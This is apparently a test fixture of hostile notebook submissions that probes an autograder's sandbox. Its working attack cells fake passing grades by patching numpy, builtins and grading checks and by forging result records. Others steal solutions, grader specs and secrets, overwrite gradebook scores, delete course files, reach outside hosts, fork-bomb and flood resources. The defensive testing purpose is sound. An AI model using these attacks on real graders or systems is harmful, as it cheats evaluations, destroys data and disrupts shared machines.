"""Hostile submissions: one per attack, as code appended to an assignment's blank release.

Each attack is the source of one extra code cell, placed last so that it can also replace the
graded functions. ``{FUNCS}`` is the list of the assignment's graded function names,
``{REFERENCE}`` one function of rnnlib's that the assignment asks for (its file in rnnlib, its
name, and a call of it), ``{COURSE}`` the course directory, ``{ROOT}`` the repository,
``{PORT}`` a TCP port the test listens on, ``{TOKEN}`` a random string. An attack prints ``LEAK:`` when it reached something it must not
(the test looks for it in the output the grader keeps), and ``EXFIL`` marks data it tries to
smuggle into the feedback. Every attack starts from the blank release, so every point it gets
is a point gained by cheating.
"""

ATTACKS = {}


def attack(name, cls):
    def register(src):
        ATTACKS[name] = (cls, src)
        return src
    return register


attack("patch-numpy", "points")("""
import numpy as np
np.allclose = np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = lambda x, *a, **k: 0 * x
for _n in {FUNCS}:
    globals()[_n] = lambda *a, **k: np.zeros(3)
""")

attack("patch-rnnlib-grading", "points")("""
import rnnlib, rnnlib.grading
rnnlib.grading.check_array = lambda *a, **k: rnnlib.grading.Verdict(True)
rnnlib.grading.assert_close = lambda *a, **k: None
rnnlib.grading.RTOL = rnnlib.grading.ATOL = float("inf")
""")

attack("patch-builtins", "points")("""
import builtins
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.type = lambda *a: object
builtins.len = lambda x: 0
for _n in {FUNCS}:
    globals()[_n] = lambda *a, **k: None
""")

attack("patch-sys-modules", "points")("""
import sys, types
fake = types.ModuleType("numpy")
fake.allclose = lambda *a, **k: True
for _m in ("numpy", "json", "rnnlib", "rnnlib.grading", "wire", "base64"):
    sys.modules[_m] = fake
""")

attack("ipython-machinery", "points")("""
import sys
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
sys.displayhook = lambda v: None
sys.excepthook = lambda *a: None
for _n in {FUNCS}:
    globals()[_n] = lambda *a, **k: 1 / 0
""")

attack("lying-objects", "points")("""
import numpy as np

class AnyShape(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__

class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __ne__(self, other): return np.zeros(np.shape(other), bool)
    def __sub__(self, other): return np.zeros_like(np.asarray(other, float))
    __rsub__ = __sub__
    @property
    def shape(self): return AnyShape()
    def tolist(self): return "anything"

class Duck:
    def __array__(self, dtype=None, copy=None): return np.zeros(3)
    def __eq__(self, other): return True
    def __float__(self): return 0.0
    shape = AnyShape()

def _liar(*args, **kwargs):
    x = np.zeros((4, 2)).view(Liar)
    return (x, x, (x, x, x, x, x, x))

def _duck(*args, **kwargs):
    return (Duck(), Duck(), (Duck(),) * 6)

for _i, _n in enumerate({FUNCS}):
    globals()[_n] = _liar if _i % 2 else _duck
""")

attack("forge-records", "points")("""
import os, json
ids = [f"{gid}/{i}" for gid in {GRADE_IDS} for i in range(6)]
lines = [json.dumps({"ready": True})] + [
    json.dumps({"result": {"id": i, "status": "ok", "value": 0.0, "log": ["sigmoid:no-match"]}}) for i in ids]
# the grader may stop this process as soon as it reads the forged records, before the cell's
# last line: this marker says that the forging itself was reached
print("ATTACK-FORGING", flush=True)
for fd in range(3, 40):
    try:
        os.write(fd, ("\\n".join(lines) + "\\n").encode())
    except OSError:
        pass
print("[grader] every part: full points")
""")

attack("reference-by-path", "points")("""
import sys, importlib, importlib.util, glob, os, ast
found = []
for path in ("{ROOT}", "{ROOT}/rnnlib", "/usr/lib/python3/dist-packages"):
    sys.path.insert(0, path)
for m in [m for m in sys.modules if m.startswith("rnnlib")]:
    del sys.modules[m]
module, name, call = {REFERENCE}
try:
    import rnnlib
    importlib.reload(rnnlib)
    import numpy as np
    eval(call)
    found.append("import")
except Exception:
    pass


def has_body(path):  # the reference's body, not the grading copy's raise
    for node in ast.walk(ast.parse(open(path).read())):
        if isinstance(node, ast.FunctionDef) and node.name == name:
            return not any(isinstance(n, ast.Raise) for n in node.body)
    return False


candidates = [os.path.join(p, "rnnlib", module) for p in sys.path]
candidates += glob.glob(f"/work/*/rnnlib/{module}") + glob.glob(f"/tmp/*/rnnlib/{module}")
for f in candidates:
    try:
        if has_body(f):
            found.append(f)
    except (OSError, SyntaxError, ValueError):
        pass
if found:
    print("LEAK:reference", found)
""")

attack("read-solutions", "points")("""
import json, re, glob
for path in glob.glob("{COURSE}/solutions/*/*.ipynb") + glob.glob("{ROOT}/solutions/*/*.ipynb"):
    try:
        nb = json.load(open(path))
    except OSError:
        continue
    print("LEAK:solutions", path)
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(c["source"]), globals())
""")

attack("read-grader", "points")("""
import glob
import sys, os
for path in ["{ROOT}/rnngrade/specs/__init__.py", "{ROOT}/rnngrade/specs/cell_bptt.py"] + [
        os.path.join(p, "rnngrade", "specs", "__init__.py") for p in sys.path]:
    try:
        open(path).read()
        print("LEAK:specs", path)
    except OSError:
        pass
for path in ("{COURSE}/.rnngrade_secret", "{ROOT}/.rnngrade_secret"):
    try:
        open(path).read()
        print("LEAK:secret", path)
    except OSError:
        pass
try:
    import rnngrade.specs
    print("LEAK:import rnngrade")
except Exception:
    pass
""")

attack("search-disk", "hidden")("""
import os
hits = []
for top in ("/", "/root", "/home", "/work", "/srv", "/var", "/opt", "/mnt"):
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirnames[:] = []
            continue
        if dirpath.startswith("{ROOT}/.venv"):
            continue  # the environment is mounted read-only; it holds no course file
        for f in filenames:
            path = os.path.join(dirpath, f)
            if f in ("gradebook.db", "nbgrader_config.py", ".rnngrade_secret") or "rnngrade/specs/" in path or (
                    f.endswith(".ipynb") and path.startswith(("{COURSE}", "{ROOT}"))):
                hits.append(path)
if hits:
    print("LEAK:disk", hits[:10])
""")

attack("snoop-processes", "hidden")("""
import os
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for what in ("cmdline", "environ"):
        try:
            data = open(f"/proc/{pid}/{what}", "rb").read()
        except OSError:
            continue
        if b"\\x00rnngrade\\x00" in data or "{COURSE}".encode() in data or b"CANARY" in data:
            print("LEAK:proc", pid, what)
if any("CANARY" in k or "CANARY" in v for k, v in os.environ.items()):
    print("LEAK:environment")
""")

attack("tamper-gradebook", "files")("""
import sqlite3
for db in ("{COURSE}/gradebook.db", "{ROOT}/gradebook.db"):
    try:
        con = sqlite3.connect(db, timeout=1)
        con.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
        con.commit()
        print("LEAK:gradebook", db)
    except Exception:
        pass
""")

attack("tamper-files", "files")("""
import os, glob, shutil
targets = (glob.glob("{COURSE}/solutions/*/*.ipynb") + glob.glob("{COURSE}/assignments/*/*.ipynb")
           + glob.glob("{COURSE}/submitted/*/*/*.ipynb") + glob.glob("{COURSE}/autograded/*/*/*.ipynb")
           + ["{COURSE}/nbgrader_config.py", "{COURSE}/grades.csv"])
for t in targets:
    try:
        with open(t, "a") as f:
            f.write("pwned")
        print("LEAK:wrote", t)
    except OSError:
        pass
for new in ("{COURSE}/pwned-{TOKEN}", "{ROOT}/pwned-{TOKEN}", "/tmp/../pwned-{TOKEN}", "/var/tmp/pwned-{TOKEN}"):
    try:  # (inside the sandbox a path below /tmp may exist in its own scratch space: the test
        open(new, "w").write("pwned")  # looks for these files on the real disk afterwards)
    except OSError:
        pass
for d in ("{COURSE}/solutions", "{COURSE}/submitted"):
    try:
        shutil.rmtree(d)
        print("LEAK:removed", d)
    except OSError:
        pass
""")

attack("network", "files")("""
import socket
for host, port in (("127.0.0.1", {PORT}), ("10.0.2.2", 80), ("1.1.1.1", 53)):
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b"LEAK")
        print("LEAK:network", host, port)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    print("LEAK:dns")
except OSError:
    pass
""")

attack("endless-loops", "stop")("""
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
def _spin(*a, **k):
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
for _n in {FUNCS}:
    globals()[_n] = _spin
""")

attack("endless-cell", "stop")("""
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
""")

attack("exits", "stop")("""
import os, sys
def _exit(*a, **k):
    os._exit(0)
for _i, _n in enumerate({FUNCS}):
    globals()[_n] = _exit
try:
    raise SystemExit(0)
finally:
    sys.exit(1)
""")

attack("kill-everything", "stop")("""
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
""")

attack("memory", "stop")("""
try:
    big = bytearray(64 * 2**30)
    print("LEAK:64 GiB allocated")
except MemoryError:
    pass
hoard = []
try:
    while True:
        hoard.append(bytearray(2**27))
except MemoryError:
    hoard = None
""")

attack("fork-bomb", "stop")("""
import os, subprocess, time
children = 0
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children += 1
if children >= 1000:
    print("LEAK:no process limit")
try:
    subprocess.Popen(["/usr/bin/sleep", "600"])
except OSError:
    pass
""")

attack("output-flood", "stop")("""
import sys, os
chunk = "x" * 2**20
for _ in range(100000):
    sys.stdout.write(chunk)
""")

attack("disk-flood", "stop")("""
import os
for path in ("/tmp/flood", "flood", "{COURSE}/flood-{TOKEN}"):
    try:
        with open(path, "wb") as f:
            for _ in range(4096):
                f.write(b"x" * 2**20)
        print("LEAK:wrote 4 GiB to", path)
    except (OSError, MemoryError):
        pass
""")

attack("exfiltrate-hidden-inputs", "hidden")("""
import gc, os, warnings, json
def _grab(*args, **kwargs):
    text = "EXFIL" + repr(args)[:4000]
    print(text)
    warnings.warn(text)
    for obj in gc.get_objects():
        if isinstance(obj, list) and len(obj) < 5 and all(isinstance(x, str) for x in obj):
            try:
                obj.append("sigmoid:" + text)
            except Exception:
                pass
    for fd in range(3, 20):
        try:
            os.write(fd, (json.dumps({"result": {"id": "x", "status": "error", "message": text, "log": [text]}}) + "\\n").encode())
        except OSError:
            pass
    raise ValueError(text)
for _n in {FUNCS}:
    globals()[_n] = _grab
raise RuntimeError("EXFIL from a cell")
""")
